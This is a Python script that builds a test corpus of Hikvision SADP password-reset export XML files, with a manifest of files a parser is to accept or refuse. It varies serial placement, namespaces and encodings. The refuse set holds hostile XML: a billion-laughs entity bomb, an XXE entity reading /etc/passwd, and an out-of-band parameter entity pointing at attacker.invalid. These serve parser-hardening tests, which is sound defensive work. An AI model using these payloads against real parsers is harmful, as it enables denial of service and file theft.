#!/usr/bin/env python3
"""Make a corpus of SADP "Forgot Password" export files (DeviceKey.xml-like),
plus files that a reader of them must refuse.

Why: the app's own export fixtures come from the same hands as its Rust XML
reader. These are written by another writer entirely -- Python's standard
library (xml.etree.ElementTree and xml.dom.minidom), nothing else -- from a
fixed seed, so a test can regenerate the same set at test time.

Usage:  sadp_exports.py OUT_DIR [--seed S]      (default seed 11)

Files to accept ("expect": "ok") vary in:
* where the serial is: an element or an attribute, spelled serialNumber,
  SerialNo, DeviceSN, SN, sn, serialNO, devSerial, DeviceSerialNumber or
  subSerialNumber; a child of the root, 2-4 levels down, or inside
  <DeviceList><Device>; or in no named field at all, only inside some other
  text (an <info> sentence, a name/value pair, a CDATA section);
* full serials (model + [2-digit channel count] + YYYYMMDD + grade + region +
  9-char short serial + 0-4 feature letters) and bare 9-char short serials;
* XML namespaces: none, a default namespace, a prefixed one (Hikvision ISAPI
  http://www.hikvision.com/ver20/XMLSchema, http://www.std-cgi.com/ver20/XMLSchema);
* encoding: UTF-8 with or without BOM, with or without a declaration; UTF-16
  LE and BE, always with BOM and an encoding="UTF-16" declaration;
* LF or CRLF line ends, pretty-printed or on one line;
* optional MAC (MAC, macAddress, mac; aa:bb:.. or AA-BB-..), model
  (deviceType, model, DeviceModel), firmware (firmwareVersion,
  SoftwareVersion) and export/start time (exportTime, ExportTime, startTime,
  DeviceStartTime; ISO 8601 or "2023-04-17 10:22:31").
Where the serial sits in a named field, other fields may hold the model,
whose middle part can itself look like a short serial (DS-2CD2143G2-I ->
2CD2143G2): the named field must win. Where the serial is in free text only,
nothing else in the file is shaped like a serial.

Files to refuse ("expect": "refuse") each carry a reason: "dtd" (billion
laughs, external entities), "not_xml" (PNG, CSV, plain text), "malformed",
"no_serial", "too_large" (> 256 KiB). Most of them contain a serial as bait.

Manifest: OUT_DIR/manifest.json, a list of {"file", "layout", "encoding",
"expect", "serial", "model", "mac", "firmware", "export_time",
"refuse_reason"}; the values are exactly as written in the file (null when
absent). For refused files they describe the content only.
"""

import argparse
import codecs
import json
import os
import random
import string
import struct
import sys
import zlib
import xml.etree.ElementTree as ET
from xml.dom import minidom

NS_HIK = "http://www.hikvision.com/ver20/XMLSchema"
NS_STD = "http://www.std-cgi.com/ver20/XMLSchema"

SERIAL_NAMES = ["serialNumber", "SerialNo", "DeviceSN", "SN", "sn", "serialNO",
                "devSerial", "DeviceSerialNumber", "subSerialNumber"]
MAC_NAMES = ["MAC", "macAddress", "mac"]
MODEL_NAMES = ["deviceType", "model", "DeviceModel"]
FW_NAMES = ["firmwareVersion", "SoftwareVersion"]
TIME_NAMES = ["exportTime", "ExportTime", "startTime", "DeviceStartTime"]

MODELS_CAM = ["DS-2CD2143G2-I", "DS-2CD2047G2-L", "DS-2CD1023G0E-I",
              "DS-2DE4425IW-DE", "iDS-2CD7A46G0-IZHS"]
MODELS_NVR = ["DS-7608NI-K2/8P", "DS-7732NI-I4/16P", "iDS-7204HUHI-M1/S",
              "DS-7104NI-Q1/4P", "DS-7616NXI-K2"]
GRADES = ["AA", "AB", "BB", "CC", "CB"]
REGIONS = ["CH", "EU", "WR", "RR", "BR"]
FEATURES = ["", "", "W", "WV", "WCVU", "U"]
OUIS = ["44:19:b6", "c0:56:e3", "bc:ad:28", "4c:bd:8f", "a4:14:37", "28:57:be"]
NAMES = ["Front door", "Büro Eingang", "Кабинет 3", "前门摄像机", "Parking lot", "Entrepôt Nord"]
BRIEF_SERIAL = "DS-7608NI-K2/8P0820230417CCRRE61958062WCVU"
BRIEF_INFO_SERIAL = "DS-2CD2143G2-I20210101AAWR123456789"


class Values:
    def __init__(self, rng):
        self.rng = rng

    def short(self):
        r, d = self.rng.random(), "".join(self.rng.choice(string.digits) for _ in range(9))
        if r < 0.4:
            return d
        if r < 0.85:
            return self.rng.choice("ABCDEFGJKLMQ") + d[1:]
        return self.rng.choice("ABCDEFGJKL") + self.rng.choice("ABCDEFGJKL") + d[2:]

    def model(self):
        return self.rng.choice(MODELS_CAM + MODELS_NVR)

    def full(self, model=None):
        rng = self.rng
        model = model or self.model()
        infix = rng.choice(["04", "08", "16"]) if model in MODELS_NVR and rng.random() < 0.3 else ""
        return "%s%s%04d%02d%02d%s%s%s%s" % (
            model, infix, rng.randint(2015, 2024), rng.randint(1, 12), rng.randint(1, 28),
            rng.choice(GRADES), rng.choice(REGIONS), self.short(), rng.choice(FEATURES))

    def mac(self):
        m = self.rng.choice(OUIS) + "".join(":%02x" % self.rng.randrange(256) for _ in range(3))
        return m.upper().replace(":", "-") if self.rng.random() < 0.4 else m

    def firmware(self):
        rng = self.rng
        return "V%d.%d.%d build %02d%02d%02d" % (rng.randint(3, 5), rng.randint(0, 9), rng.randint(0, 300),
                                               rng.randint(18, 24), rng.randint(1, 12), rng.randint(1, 28))

    def time(self):
        rng = self.rng
        y, mo, d = rng.randint(2019, 2025), rng.randint(1, 12), rng.randint(1, 28)
        h, mi, s = rng.randint(0, 23), rng.randint(0, 59), rng.randint(0, 59)
        if rng.random() < 0.5:
            return "%04d-%02d-%02d %02d:%02d:%02d" % (y, mo, d, h, mi, s)
        return "%04d-%02d-%02dT%02d:%02d:%02d%s" % (y, mo, d, h, mi, s,
                                                  rng.choice(["Z", "+08:00", "+01:00", ""]))


# ---------------------------------------------------------------- writers
#
# A document is described as a small tree of tuples, written either by
# ElementTree or by minidom:  (tag, {attr: value}, [children] or "text")
# with a ("#cdata", text) or ("#comment", text) child for minidom's extras.

def et_build(node, ns, prefix):
    tag, attrs, body = node
    q = "{%s}%s" % (ns, tag) if ns else tag
    el = ET.Element(q, attrs)
    if isinstance(body, str):
        el.text = body
    else:
        for ch in body:
            if ch[0] == "#comment":
                el.append(ET.Comment(ch[1]))
            elif ch[0] == "#cdata":  # ElementTree has no CDATA: plain (escaped) text
                el.text = (el.text or "") + ch[1]
            else:
                el.append(et_build(ch, ns, prefix))
    return el


def et_write(tree, ns, prefix, pretty):
    if ns and not prefix:
        # ElementTree's default_namespace refuses unqualified attributes: write the
        # xmlns attribute by hand on unqualified tags (the same document to a reader)
        tag, attrs, body = tree
        return et_write((tag, dict(attrs, xmlns=ns), body), None, None, pretty)
    root = et_build(tree, ns, prefix)
    if pretty:
        ET.indent(root, space="  " if pretty is True else pretty)
    if ns and prefix:
        ET.register_namespace(prefix, ns)
        return ET.tostring(root, encoding="unicode")
    return ET.tostring(root, encoding="unicode")


def dom_build(doc, node, ns, prefix, top=False):
    tag, attrs, body = node
    if ns:
        el = doc.createElementNS(ns, "%s:%s" % (prefix, tag) if prefix else tag)
        if top:
            el.setAttribute("xmlns:%s" % prefix if prefix else "xmlns", ns)
    else:
        el = doc.createElement(tag)
    for k, v in attrs.items():
        el.setAttribute(k, v)
    if isinstance(body, str):
        el.appendChild(doc.createTextNode(body))
    else:
        for ch in body:
            if ch[0] == "#comment":
                el.appendChild(doc.createComment(ch[1]))
            elif ch[0] == "#cdata":
                el.appendChild(doc.createCDATASection(ch[1]))
            else:
                el.appendChild(dom_build(doc, ch, ns, prefix))
    return el


def dom_write(tree, ns, prefix, pretty):
    impl = minidom.getDOMImplementation()
    doc = impl.createDocument(None, None, None)
    doc.appendChild(dom_build(doc, tree, ns, prefix, top=True))
    if pretty:
        text = doc.toprettyxml(indent="\t" if pretty == "\t" else "  ")
    else:
        text = doc.toxml()
    # minidom writes its own '<?xml version="1.0" ?>'; the caller decides on one
    if text.startswith("<?xml"):
        text = text[text.index("?>") + 2:].lstrip("\n")
    return text


DECL_UTF8 = ['<?xml version="1.0" encoding="UTF-8"?>', '<?xml version="1.0" encoding="utf-8" standalone="yes"?>',
             '<?xml version="1.0" ?>', None]


def encode(text, enc, newline, decl):
    if enc.startswith("utf-16"):
        decl = '<?xml version="1.0" encoding="UTF-16"?>'
    if decl:
        text = decl + "\n" + text
    text = text.rstrip("\n") + "\n"
    if newline == "crlf":
        text = text.replace("\r\n", "\n").replace("\n", "\r\n")
    if enc == "utf-8":
        return text.encode("utf-8")
    if enc == "utf-8-bom":
        return codecs.BOM_UTF8 + text.encode("utf-8")
    if enc == "utf-16-le-bom":
        return codecs.BOM_UTF16_LE + text.encode("utf-16-le")
    if enc == "utf-16-be-bom":
        return codecs.BOM_UTF16_BE + text.encode("utf-16-be")
    raise ValueError(enc)


# ---------------------------------------------------------------- layouts

def leaf(name, value):
    return (name, {}, value)


def extras(v, rng, want):
    """Optional fields: returns (children, fields) -- fields as written."""
    kids, f = [], dict(model=None, mac=None, firmware=None, export_time=None)
    if "model" in want:
        f["model"] = want["model"]
        kids.append(leaf(rng.choice(MODEL_NAMES), f["model"]))
    if "mac" in want:
        f["mac"] = v.mac()
        kids.append(leaf(rng.choice(MAC_NAMES), f["mac"]))
    if "firmware" in want:
        f["firmware"] = v.firmware()
        kids.append(leaf(rng.choice(FW_NAMES), f["firmware"]))
    if "time" in want:
        f["export_time"] = v.time()
        kids.append(leaf(rng.choice(TIME_NAMES), f["export_time"]))
    rng.shuffle(kids)
    return kids, f


def named_case(v, rng, name, as_attr, depth, in_list, serial, want):
    """The serial under a named element/attribute at some depth."""
    kids, f = extras(v, rng, want)
    if rng.random() < 0.4:
        kids.insert(rng.randint(0, len(kids)), leaf("deviceName", rng.choice(NAMES)))
    if as_attr:
        holder = ("Device" if in_list else "DeviceInfo", {name: serial}, kids)
    else:
        kids.insert(rng.randint(0, len(kids)), leaf(name, serial))
        holder = ("Device" if in_list else "DeviceInfo", {}, kids)
    if in_list:
        node = ("DeviceList", {"size": "1"}, [holder])
        where = "DeviceList/Device"
        for _ in range(max(0, depth - 2)):
            node = ("Body", {}, [node])
            where = "Body/" + where
    else:
        node, where = holder, "DeviceInfo"
        for k in range(max(0, depth - 1)):
            node = (["Data", "Body", "Content"][k % 3], {}, [node])
            where = ["Data", "Body", "Content"][k % 3] + "/" + where
    if depth == 0:  # the serial as a root child / root attribute
        if as_attr:
            root = ("DeviceKey", {"version": "1.0", name: serial}, kids)
        else:
            root = ("DeviceKey", {"version": "1.0"}, kids)
        where = "root " + ("@" if as_attr else "<") + name + ("" if as_attr else ">")
        return root, f, where
    root = ("DeviceKey", {"version": "2.0"}, [leaf("FileType", "ResetPassword"), node])
    where = "root/" + where + " " + ("@" if as_attr else "<") + name + ("" if as_attr else ">")
    return root, f, where


def isapi_case(v, rng, serial, model):
    """ISAPI-like <DeviceInfo> as the root, as a device's /ISAPI/System/deviceInfo."""
    f = dict(model=model, mac=v.mac(), firmware=None, export_time=None)
    fw = v.firmware()
    ver, build = fw.split(" ", 1)
    kids = [leaf("deviceName", rng.choice(NAMES)), leaf("deviceID", "%08x-%04x-%04x-%04x-%012x" % (
        rng.getrandbits(32), rng.getrandbits(16), rng.getrandbits(16), rng.getrandbits(16), rng.getrandbits(48))),
        leaf("model", model), leaf("serialNumber", serial), leaf("macAddress", f["mac"]),
        leaf("firmwareVersion", ver), leaf("firmwareReleasedDate", build), leaf("deviceType", "IPCamera")]
    f["firmware"] = ver
    return ("DeviceInfo", {"version": "2.0"}, kids), f


def freetext_case(v, rng, style, serial):
    """The serial in no named field: only inside other text."""
    f = dict(model=None, mac=None, firmware=None, export_time=None)
    kids = []
    if rng.random() < 0.6:
        f["export_time"] = v.time()
        kids.append(leaf(rng.choice(TIME_NAMES), f["export_time"]))
    if rng.random() < 0.5:
        f["mac"] = v.mac()
        kids.append(leaf(rng.choice(MAC_NAMES), f["mac"]))
    if style == "info":
        kids.insert(0, leaf("info", "Device %s exported by SADP v3.0.4 for password reset" % serial))
        where = "serial inside <info> sentence"
    elif style == "pair":
        kids.insert(0, ("Item", {"name": "Device identity", "value": "%s" % serial}, []))
        where = "serial as @value of <Item name=...>"
    elif style == "cdata":
        kids.insert(0, ("Payload", {}, [("#cdata", "reset-request; device=%s; lang=en" % serial)]))
        where = "serial inside CDATA of <Payload>"
    else:  # comment-free note with a key: value line
        kids.insert(0, leaf("Note", "Key file for device: %s (keep it private)" % serial))
        where = "serial inside <Note> text"
    return ("DeviceKey", {}, kids), f, where


# ---------------------------------------------------------------- refused

def png_bytes():
    def chunk(t, data):
        return struct.pack(">I", len(data)) + t + data + struct.pack(">I", zlib.crc32(t + data) & 0xffffffff)
    raw = b"".join(b"\x00" + bytes([200, 200, 200]) * 8 for _ in range(8))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 8, 8, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(raw)) + chunk(b"IEND", b""))


def refused(v, rng):
    out = []
    s1, s2, s3 = v.full(), v.short(), v.full()

    def add(name, data, reason, layout, enc="utf-8", serial=None, **kw):
        out.append((name, data, dict(layout=layout, encoding=enc, expect="refuse", serial=serial,
                                     model=kw.get("model"), mac=kw.get("mac"), firmware=None,
                                     export_time=None, refuse_reason=reason)))

    lol = ['<!ENTITY lol "lol">'] + ['<!ENTITY lol%d "%s">' % (k, ("&lol%s;" % ("" if k == 1 else k - 1)) * 10)
                                    for k in range(1, 10)]
    add("refuse_dtd_billion_laughs.xml",
        ('<?xml version="1.0"?>\n<!DOCTYPE DeviceKey [\n  %s\n]>\n<DeviceKey>\n  <serialNumber>%s</serialNumber>\n'
         '  <info>&lol9;</info>\n</DeviceKey>\n' % ("\n  ".join(lol), s1)).encode(),
        "dtd", "internal DTD, nested entities (billion laughs)", serial=s1)
    add("refuse_dtd_xxe_file.xml",
        ('<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE DeviceKey [\n  <!ENTITY xxe SYSTEM "file:///etc/passwd">\n]>\n'
         '<DeviceKey>\n  <SerialNo>%s</SerialNo>\n  <info>&xxe;</info>\n</DeviceKey>\n' % s2).encode(),
        "dtd", "external entity SYSTEM file:///etc/passwd (XXE)", serial=s2)
    add("refuse_dtd_xxe_parameter.xml",
        ('<?xml version="1.0"?>\n<!DOCTYPE DeviceKey [\n  <!ENTITY %% remote SYSTEM "http://attacker.invalid/x.dtd">\n'
         '  %%remote;\n]>\n<DeviceKey><DeviceSN>%s</DeviceSN></DeviceKey>\n' % s3).encode(),
        "dtd", "external parameter entity (XXE, out of band)", serial=s3)
    add("refuse_not_xml_png.xml", png_bytes(), "not_xml", "a PNG picture named .xml", enc="binary")
    add("refuse_not_xml.csv", ("serial,mac,model\r\n%s,%s,%s\r\n" % (s1, "44:19:b6:00:11:22", "DS-7608NI-K2/8P")).encode(),
        "not_xml", "CSV with a serial", serial=s1)
    add("refuse_not_xml.txt", ("Device serial number: %s\nPlease reset the password.\n" % s2).encode(),
        "not_xml", "plain text with a serial", serial=s2)
    add("refuse_malformed_unclosed.xml",
        ('<?xml version="1.0" encoding="UTF-8"?>\n<DeviceKey>\n  <serialNumber>%s</serialNumber>\n'
         '  <DeviceInfo>\n    <model>DS-7608NI-K2/8P</model>\n</DeviceKey>\n' % s3).encode(),
        "malformed", "unclosed <DeviceInfo>", serial=s3, model="DS-7608NI-K2/8P")
    add("refuse_malformed_truncated.xml",
        ('<?xml version="1.0" encoding="UTF-8"?>\n<DeviceKey><DeviceList><Device><sn>%s</sn><mac>44:19:b6:0' % s2).encode(),
        "malformed", "file cut short inside <mac>", serial=s2)
    add("refuse_malformed_two_roots.xml",
        ('<DeviceKey><SN>%s</SN></DeviceKey>\n<DeviceKey><SN>%s</SN></DeviceKey>\n' % (s1, s3)).encode(),
        "malformed", "two root elements", serial=s1)
    mac1 = v.mac()
    add("refuse_no_serial.xml",
        ('<?xml version="1.0" encoding="UTF-8"?>\n<DeviceKey version="1.0">\n  <model>DS-7608NI-K2/8P</model>\n'
         '  <macAddress>%s</macAddress>\n  <firmwareVersion>V4.62.210 build 220101</firmwareVersion>\n'
         '  <exportTime>2023-04-17 10:22:31</exportTime>\n</DeviceKey>\n' % mac1).encode(),
        "no_serial", "well-formed, model/mac/firmware/time but no serial", model="DS-7608NI-K2/8P", mac=mac1)
    out[-1][2].update(firmware="V4.62.210 build 220101", export_time="2023-04-17 10:22:31")
    add("refuse_no_serial_empty_field.xml",
        ('<?xml version="1.0" encoding="UTF-8"?>\n<DeviceKey>\n  <serialNumber></serialNumber>\n  <SerialNo/>\n'
         '  <DeviceSN>   </DeviceSN>\n  <info>Device exported by SADP</info>\n</DeviceKey>\n').encode(),
        "no_serial", "empty serial elements only")
    # > 256 KiB, otherwise valid, serial at the top
    logs = "".join('  <Log time="2023-04-17 10:%02d:%02d">heartbeat ok, channel %d</Log>\n' % (k // 60 % 60, k % 60, k % 16)
                   for k in range(5200))
    big = ('<?xml version="1.0" encoding="UTF-8"?>\n<DeviceKey>\n  <serialNumber>%s</serialNumber>\n%s</DeviceKey>\n'
           % (s1, logs)).encode()
    assert len(big) > 256 * 1024 + 8192, len(big)
    add("refuse_too_large.xml", big, "too_large", "valid, serial first, %d bytes of log entries" % len(big), serial=s1)
    return out


# ---------------------------------------------------------------- main

def main(argv=None):
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("out_dir")
    ap.add_argument("--seed", type=int, default=11)
    args = ap.parse_args(argv)
    os.makedirs(args.out_dir, exist_ok=True)
    rng = random.Random(args.seed)
    v = Values(rng)
    encs = ["utf-8", "utf-8-bom", "utf-16-le-bom", "utf-16-be-bom"]
    manifest = []
    cases = []
    # 1) every spelling, as element and as attribute, at cycling depths
    #    (0 = root child/attribute, 1 = <DeviceInfo>, 2-4 = deeper, L = in <DeviceList><Device>)
    depths = [0, 1, 2, 3, 4, "L"]
    k = 0
    for name in SERIAL_NAMES:
        for as_attr in (False, True):
            depth = depths[k % len(depths)]
            k += 1
            short = name == "subSerialNumber" or rng.random() < 0.3
            cases.append(("named", dict(name=name, as_attr=as_attr, depth=depth, short=short)))
    # 2) ISAPI-like DeviceInfo roots, namespaced
    cases += [("isapi", dict(ns=NS_HIK, prefix=None)), ("isapi", dict(ns=NS_STD, prefix=None)),
              ("isapi", dict(ns=NS_HIK, prefix="hik"))]
    # 3) serial in free text only
    cases += [("free", dict(style=s)) for s in ("info", "pair", "cdata", "note", "info", "note")]
    # 4) every spelling once more, elsewhere, half of them short serials
    for j, name in enumerate(SERIAL_NAMES):
        cases.append(("named", dict(name=name, as_attr=j % 3 == 1, depth=["L", 3, 4, 2, "L", 1][j % 6],
                                    short=j % 2 == 0)))
    # 5) the serial from the brief, verbatim
    cases.append(("named", dict(name="serialNumber", as_attr=False, depth="L", short=False, brief=True)))
    n_ok = 0
    for idx, (kind, c) in enumerate(cases):
        enc = encs[idx % 4] if idx % 3 else "utf-8"
        newline = "crlf" if idx % 5 in (1, 3) else "lf"
        pretty = [True, False, "\t", True, False][idx % 5]
        writer = "minidom" if idx % 2 else "etree"
        ns, prefix = None, None
        if kind == "named":
            if idx % 7 == 2:
                ns, prefix = NS_HIK, None
            elif idx % 7 == 5:
                ns, prefix = NS_STD, "hik"
            model = v.model()
            serial = BRIEF_SERIAL if c.get("brief") else (v.short() if c["short"] else v.full(model))
            want = {w for w in ("mac", "firmware", "time") if rng.random() < 0.5}
            if rng.random() < 0.6:
                want.add("model")
            want = {w: model for w in want}
            tree, f, where = named_case(v, rng, c["name"], c["as_attr"],
                                        c["depth"] if c["depth"] != "L" else 2, c["depth"] == "L",
                                        serial, want)
        elif kind == "isapi":
            ns, prefix = c["ns"], c["prefix"]
            model = rng.choice(MODELS_CAM)
            serial = v.full(model)
            tree, f = isapi_case(v, rng, serial, model)
            where = "ISAPI-like <DeviceInfo> root, <serialNumber>"
        else:
            if c["style"] == "info" and BRIEF_INFO_SERIAL not in [m["serial"] for m in manifest]:
                serial = BRIEF_INFO_SERIAL  # the example from the brief, verbatim
            else:
                serial = v.short() if idx % 2 else v.full(rng.choice(MODELS_NVR))
            tree, f, where = freetext_case(v, rng, c["style"], serial)
            if c["style"] == "cdata":
                writer = "minidom"  # ElementTree cannot write CDATA
        write = dom_write if writer == "minidom" else et_write
        text = write(tree, ns, prefix, pretty)
        decl = DECL_UTF8[idx % len(DECL_UTF8)]
        data = encode(text, enc, newline, decl)
        name = "ok_%02d_%s.xml" % (idx, {"named": c.get("name", ""), "isapi": "isapi", "free": "free_" + c.get("style", "")}[kind])
        nsdesc = "" if not ns else (", ns %s%s" % ("prefix hik: " if prefix else "default ", ns))
        layout = "%s; %s writer, %s, %s%s" % (where, writer, {True: "pretty", False: "one line", "\t": "pretty (tabs)"}[pretty],
                                              newline.upper(), nsdesc)
        if not decl and not enc.startswith("utf-16"):
            layout += ", no XML declaration"
        _check(data, serial, enc)
        manifest.append(dict(file=name, layout=layout, encoding=enc, expect="ok", serial=serial,
                             model=f["model"], mac=f["mac"], firmware=f["firmware"],
                             export_time=f["export_time"], refuse_reason=None))
        with open(os.path.join(args.out_dir, name), "wb") as fh:
            fh.write(data)
        n_ok += 1
    for name, data, meta in refused(v, rng):
        with open(os.path.join(args.out_dir, name), "wb") as fh:
            fh.write(data)
        manifest.append(dict(file=name, **meta))
    with open(os.path.join(args.out_dir, "manifest.json"), "w", encoding="utf-8") as fh:
        json.dump(manifest, fh, indent=1, ensure_ascii=False)
    print("%d files (%d ok, %d refuse) -> %s" % (len(manifest), n_ok, len(manifest) - n_ok, args.out_dir),
          file=sys.stderr)


def _check(data, serial, enc):
    """Self-check with the standard library's own parser: well-formed, serial present."""
    root = ET.fromstring(data)
    found = any(serial in (el.text or "") or any(serial == a for a in el.attrib.values()) for el in root.iter())
    assert found, (serial, enc)


if __name__ == "__main__":
    main()
